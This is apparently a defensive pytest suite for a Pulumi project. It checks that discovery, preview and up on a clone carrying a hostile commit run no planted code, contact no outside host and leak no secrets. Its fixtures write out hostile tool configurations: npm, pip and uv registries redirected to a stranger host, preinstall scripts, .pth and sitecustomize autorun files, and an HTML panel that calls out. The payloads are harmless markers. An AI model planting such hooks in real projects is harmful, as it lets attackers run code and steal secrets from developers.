"""The project with everything that a stranger's commit can bring: it is looked at, previewed and deployed all the same.

Its stack files and its Python are the program itself, which its operator reviews; the rest is anybody's. A clone brings
no `.git/config`: one that names commands comes with an archive, and whoever runs git there runs them, Pulumi too.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

import pytest

from tests.engine.private_engine import PrivateEngine
from tests.engine.project import Done, Project
from tests.exposure import exposed
from tests.scenarios.emulators import legacy_mcp
from tests.scenarios.namespace import another_host
from tests.scenarios.servers import Server
from tests.scenarios.states import hostile_repository
from tests.scenarios.states.hostile_repository import ELSEWHERE, SECRETS

pytestmark = pytest.mark.engine

STRANGER = f"http://{ELSEWHERE}:7000/"
VALUES = {name: f"of-this-machine-{number}-7f3a91c2" for number, name in enumerate(SECRETS)}
# What npm, pip, uv, Docker, direnv and Python itself look for in the folder in which they are started.
OF_TOOLS = {
    ".npmrc": f"registry={STRANGER}\nignore-scripts=false\n",
    "package.json": '{"scripts": {"preinstall": "touch PROOF", "prepare": "touch PROOF"}}',
    "uv.toml": f'index-url = "{STRANGER}simple"\n',
    "pip.conf": f"[global]\nindex-url = {STRANGER}simple\n",
    ".python-version": "3.1\n",
    ".envrc": "touch PROOF\n",
    ".docker/config.json": f'{{"credsStore": "evil", "proxies": {{"default": {{"httpProxy": "{STRANGER}"}}}}}}',
    ".pulumi/config.json": "{}",
    "docker-compose.yml": "services: {evil: {image: evil.example/evil}}\n",
    "sitecustomize.py": "open('PROOF', 'w')\n",
    "usercustomize.py": "open('PROOF', 'w')\n",
    "evil.pth": "import os; open('PROOF', 'w')\n",
}
PANEL = {"type": "text", "title": "Evil", "options": {"mode": "html", "content": f"<img src='{STRANGER}'>"}}


@pytest.fixture(scope="module")
def stranger(private_engine: PrivateEngine) -> Iterator[Server]:
    """Whom every file names, beyond the loopback; every connection counts."""
    private_engine.namespace.run(partial(another_host, ELSEWHERE))
    server = private_engine.namespace.run(lambda: Server(legacy_mcp("stranger"), 7000, ELSEWHERE))
    yield server
    server.close()


@pytest.fixture(scope="module")
def near(private_engine: PrivateEngine) -> Iterator[Server]:
    """The repository's own server on the loopback, which asks for a key."""
    server = private_engine.namespace.run(lambda: Server(hostile_repository.near(), 7001))
    yield server
    server.close()


@pytest.fixture(scope="module")
def proof(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where each command of the repository's would leave a file with the name of the one that it stands in."""
    return tmp_path_factory.mktemp("run")


@pytest.fixture(scope="module")
def project(new_project: Callable[..., Project], stranger: Server, near: Server, proof: Path) -> Project:
    """The clone, with all of it committed by the real git."""
    project = new_project(like="cloud", config={"mcpServers": []})
    dashboard = {"uid": "evil", "title": "Evil", "panels": [PANEL]}
    brought = hostile_repository.files("PROOF", str(project.root)) | OF_TOOLS
    brought |= {"dashboards/evil.json": dashboard}
    for name, content in brought.items():
        path = project.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        text = content if isinstance(content, str) else json.dumps(content)
        path.write_text(text.replace("PROOF", str(proof / name.replace("/", "-"))))
        path.chmod(0o755)
    identity = ("-c", "user.name=n", "-c", "user.email=n@example.com")
    commands = (("init", "-q"), ("add", "."), ("add", "-f", *brought), (*identity, "commit", "-q", "-m", "Improve"))
    for command in commands:
        subprocess.run(["git", *command], cwd=project.root, check=True, capture_output=True)
    project.environment.update(VALUES)
    return project


def done_in(project: Project, command: str) -> Done:
    if command == "discovery":
        return project.run(".venv/bin/python", "-m", "discovery", "--stack", project.stack)
    return project.operate(command)


@pytest.mark.parametrize("command", ["discovery", "preview", "up"])
def test_it_runs_nothing_calls_nobody_and_shows_no_secret(
    command: str, project: Project, stranger: Server, near: Server, proof: Path
) -> None:
    done = done_in(project, command)
    assert done.code == 0, done.text
    assert list(proof.iterdir()) == []
    assert stranger.connections == 0, stranger.received[:500]
    assert [value for value in VALUES.values() if value in done.text or value.encode() in near.received] == []
    assert "from-the-repository" not in near.received.decode(errors="replace")
    prefix = f"promptcraft-{project.stack}-"
    running = {str(found.name).removeprefix(prefix) for found in project.containers() if found.status == "running"}
    assert running == ({"promptcraft"} if command == "up" else set())
    told = " ".join(done.text.split())
    assert ".env is committed in this repository; set it in the environment, or, if you wrote .env, run" in told
    assert command != "discovery" or "REDIS_URL: .env is committed" in told


def test_no_secret_stands_in_what_was_kept(project: Project) -> None:
    assert exposed(project, list(VALUES.values()), json.dumps(project.outputs()), json.dumps(project.discover())) == []


def test_a_second_up_changes_nothing(project: Project, stranger: Server, proof: Path) -> None:
    again = project.pulumi("up", "--yes", "--skip-preview", "--expect-no-changes")
    assert again.code == 0, again.text
    assert stranger.connections == 0
    assert list(proof.iterdir()) == []
